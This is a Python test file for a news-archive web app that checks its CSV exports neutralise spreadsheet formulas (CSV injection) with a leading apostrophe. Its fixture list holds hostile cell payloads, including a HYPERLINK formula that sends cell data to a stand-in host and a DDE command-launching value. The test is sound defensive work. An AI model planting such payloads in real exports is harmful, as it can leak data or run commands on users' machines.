"""CSV answers never carry a formula (OWASP CSV injection): a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written with a leading apostrophe, in ``/api/export?format=csv``
and in the attention CSV."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from baochi.model import Article, Outlet
from baochi.store import Store
from baochi.store.queries import FORMULA_START, attention_csv, csv_cell
from baochi.web.app import create_app

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Hà Nội")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tHà Nội", "\rHà Nội"]  # fmt: skip


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    db = tmp_path_factory.mktemp("csvstore") / "csv.db"
    with Store(db) as store:
        for i, text in enumerate(HOSTILE):
            store.put(
                Article(
                    id=f"{i:016x}",
                    source=f"hostile_{i}.txt",
                    outlet=Outlet(name=text, domain=None),
                    title=f"{text} tin số {i}",
                    published_at=f"2021-03-{i + 1:02d}",
                    lead=text,
                    body=[f"Hà Nội, bản tin số {i}."],
                )
            )
    return TestClient(create_app(db), raise_server_exceptions=False)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_cell_neutralises_formulas() -> None:
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    assert csv_cell("Hà Nội = thủ đô") == "Hà Nội = thủ đô"
    assert csv_cell(None) == "" and csv_cell(3) == 3 and csv_cell(0.25) == 0.25
    data = {"series": [{"outlet": "=1+1", "points": [{"date": "2021-03-01", "count": 1, "ratio": 0.5}]}]}
    assert "'=1+1" in _cells(attention_csv(data))


def test_export_and_attention_csv_hold_no_formula(client: TestClient) -> None:
    export = client.get("/api/export", params={"q": "ha noi", "format": "csv"})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert len(rows) == len(HOSTILE)
    assert {r["lead"] for r in rows} == {"'" + t for t in HOSTILE}
    assert {r["outlet"] for r in rows} == {"'" + t for t in HOSTILE}
    attention = client.get("/api/attention.csv", params={"q": "ha noi", "by": "outlet", "interval": "day"})
    assert attention.status_code == 200
    outlets = {row["outlet"] for row in csv.DictReader(io.StringIO(attention.text))} - {"(all)"}
    assert outlets == {"'" + t for t in HOSTILE}
    for text in (export.text, attention.text):
        assert not [c for c in _cells(text)[1:] if c.startswith(FORMULA_START)]
